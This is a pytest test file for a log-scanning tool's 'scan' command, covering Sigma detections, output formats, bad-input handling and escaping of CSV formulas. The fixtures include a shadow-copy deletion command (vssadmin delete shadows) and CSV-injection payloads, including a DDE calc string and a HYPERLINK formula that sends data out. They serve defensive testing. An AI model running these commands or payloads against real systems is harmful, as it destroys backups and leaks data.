"""`vigie scan` end to end: real files in, detections out in each format, bad input counted."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from detection import hunt as hunt_module
from detection.hunt import Hunt
from detection.sigma import SigmaEngine, load_sigma_rules

RULE = """title: Shadow copies deleted with vssadmin
id: 7f9f7a4e-5b0c-4d7e-9a51-3c2b1d0e9f11
status: test
logsource: {product: windows, category: process_creation}
detection:
  sel:
    Image|endswith: '\\\\vssadmin.exe'
    CommandLine|contains|all: [delete, shadows]
  condition: sel
level: critical
tags: [attack.impact, attack.t1490]
"""


def win_event(record: int, image: str, command_line: str, minute: int = 0) -> dict:
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": 1,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": "srv-dpi.chu-exemple.fr",
                "EventRecordID": record,
                "TimeCreated": {
                    "#attributes": {"SystemTime": f"2026-11-20T10:{minute:02d}:00.1234567Z"}
                },
            },
            "EventData": {"Image": image, "CommandLine": command_line},
        }
    }


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "vss.yml").write_text(RULE, encoding="utf-8")
    return folder


@pytest.fixture
def logs(tmp_path: Path) -> Path:
    path = tmp_path / "events.jsonl"
    lines = [
        json.dumps(
            win_event(
                1, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", 1
            )
        ),
        "{this is not json",
        json.dumps(win_event(2, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows", 2)),
        json.dumps(
            win_event(
                3, "C:\\Windows\\System32\\VSSADMIN.EXE", "VSSADMIN Delete Shadows /For=C:", 3
            )
        ),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def vigie(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "cli.main", *map(str, args)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_jsonl_output_has_the_contract_fields(rules: Path, logs: Path) -> None:
    result = vigie("scan", "--sigma", rules, "--format", "jsonl", "--stats", logs)
    assert result.returncode == 0, result.stderr
    found = [json.loads(line) for line in result.stdout.splitlines()]
    assert [d["event"]["winlog"]["record_id"] for d in found] == [1, 3]
    first = found[0]
    assert first["engine"] == "sigma"
    assert first["rule_id"] == "7f9f7a4e-5b0c-4d7e-9a51-3c2b1d0e9f11"
    assert first["rule_title"] == "Shadow copies deleted with vssadmin"
    assert first["level"] == "critical"
    assert first["source"] == str(logs)
    assert first["timestamp"] == "2026-11-20T10:01:00.123456Z"
    assert first["event"]["winlog"]["event_data"]["CommandLine"].startswith("vssadmin delete")
    # The corrupt line is counted and reported, not fatal.
    assert "events read: 3, records skipped: 1" in result.stderr
    assert "detections: 2" in result.stderr


def test_csv_and_table_and_output_file(rules: Path, logs: Path, tmp_path: Path) -> None:
    out = tmp_path / "found.csv"
    assert vigie("scan", "--sigma", rules, "--format", "csv", "--output", out, logs).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 2
    assert rows[0]["host"] == "srv-dpi.chu-exemple.fr"
    assert rows[0]["level"] == "critical"
    table = vigie("scan", "--sigma", rules, logs)
    assert table.returncode == 0
    assert table.stdout.count("Shadow copies deleted") == 2


def test_missing_inputs_and_rules(rules: Path, logs: Path, tmp_path: Path) -> None:
    nothing = vigie("scan", "--sigma", rules, tmp_path / "absent.jsonl")
    assert nothing.returncode == 2
    assert nothing.stderr.strip().splitlines()[-1].startswith("vigie: error:")
    partly = vigie("scan", "--sigma", rules, "--format", "jsonl", logs, tmp_path / "absent.jsonl")
    assert partly.returncode == 0
    assert len(partly.stdout.splitlines()) == 2
    assert "no such input" in partly.stderr
    no_rules = vigie("scan", "--sigma", tmp_path / "no-rules-here", logs)
    assert no_rules.returncode == 2


def test_workers_and_slices_give_the_same_detections(
    rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = tmp_path / "big.jsonl"
    with big.open("w", encoding="utf-8") as fh:
        for i in range(3000):
            command = "vssadmin delete shadows /all" if i % 7 == 0 else "vssadmin list shadows"
            fh.write(
                json.dumps(win_event(i, "C:\\Windows\\System32\\vssadmin.exe", command, i % 60))
                + "\n"
            )
    # Slices far smaller than the file, cut in the middle of lines.
    monkeypatch.setattr(hunt_module, "SLICE_BYTES", 10_000)
    monkeypatch.setattr(hunt_module, "MIN_SLICE_BYTES", 10_000)
    engine = SigmaEngine(load_sigma_rules([rules]))
    serial = [d.event.fields["winlog"]["record_id"] for d in Hunt(engine, workers=1).run([big])]
    parallel_hunt = Hunt(engine, workers=2)
    parallel = [d.event.fields["winlog"]["record_id"] for d in parallel_hunt.run([big])]
    expected = list(range(0, 3000, 7))
    assert serial == expected
    assert parallel == expected
    assert parallel_hunt.stats.events == 3000
    assert parallel_hunt.stats.read.records_skipped == 0


def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    """The independent test's CSV injection: values from the logs and from rules that a
    spreadsheet would run come out as text."""
    folder = tmp_path / "rules"
    folder.mkdir()
    rule = RULE.replace("Shadow copies deleted with vssadmin", '=HYPERLINK("http://x/?"&A1)')
    (folder / "vss.yml").write_text(rule, encoding="utf-8")
    attacks = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    path = tmp_path / "evil.jsonl"
    lines = []
    for n, attack in enumerate(attacks, start=1):
        event = win_event(n, "C:\\Windows\\System32\\vssadmin.exe", attack + " delete shadows", n)
        event["Event"]["System"]["Computer"] = attack
        lines.append(json.dumps(event))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "found.csv"
    result = vigie("scan", "--sigma", folder, "--format", "csv", "--output", out, path)
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as written:  # a CR in a cell stays a CR
        rows = list(csv.reader(written))
    assert len(rows) == 1 + len(attacks)
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row[6] for row in rows[1:]} == {"'" + a for a in attacks}  # the host column
    assert {row[4] for row in rows[1:]} == {"'" + '=HYPERLINK("http://x/?"&A1)'}
